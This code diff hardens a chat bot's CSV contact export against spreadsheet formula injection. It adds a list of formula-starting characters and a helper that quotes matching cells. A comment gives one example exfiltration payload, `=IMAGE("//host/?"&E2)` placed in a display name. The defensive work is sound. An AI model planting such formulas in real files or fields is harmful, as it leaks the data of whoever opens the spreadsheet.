@@ -15,6 +15,10 @@ from bot.store.repository import contacts_of, pending_nudges_by_contact
 
 CSV_FIELDS = ("name", "stage", "where_met", "met_at", "notes", "interests", "offer", "tags",
               "platform_user_id", "next_nudge", "next_nudge_at", "meetings")
+# A spreadsheet reads a cell starting with one of these as a formula (`=IMAGE("//host/?"&E2)` as a Discord
+# display name): OWASP's CSV injection advice is to start such a cell with a single quote, which makes it
+# text. Also when spaces come first (a spreadsheet may trim them), and for the full-width forms.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
 
 
 def export(cmd: commands.Export, ctx: Context) -> Reply:
@@ -31,8 +35,8 @@ def export(cmd: commands.Export, ctx: Context) -> Reply:
     writer.writeheader()
     for row in document["contacts"]:
         meetings = "; ".join(" ".join(filter(None, (m["at"], m["where"]))) for m in row["meetings"])
-        writer.writerow({**row, "interests": "; ".join(row["interests"]), "tags": " ".join(row["tags"]),
-                         "meetings": meetings})
+        cells = {**row, "interests": "; ".join(row["interests"]), "tags": " ".join(row["tags"]), "meetings": meetings}
+        writer.writerow({field: safe_cell(cells[field]) for field in CSV_FIELDS})
     return Reply(
         f"Here is everything I store about you: {len(contacts)} contact{'s' if len(contacts) != 1 else ''}, "
         f"as JSON and CSV.",
@@ -41,6 +45,13 @@ def export(cmd: commands.Export, ctx: Context) -> Reply:
             Attachment("coach-contacts.csv", buffer.getvalue(), "text/csv"),
         ),
     )
+
+
+def safe_cell(value: Any) -> Any:
+    """A CSV cell no spreadsheet runs as a formula: text that starts like one gets a leading quote."""
+    if isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
 
 
 def _member_dict(member: Member) -> dict[str, Any]:
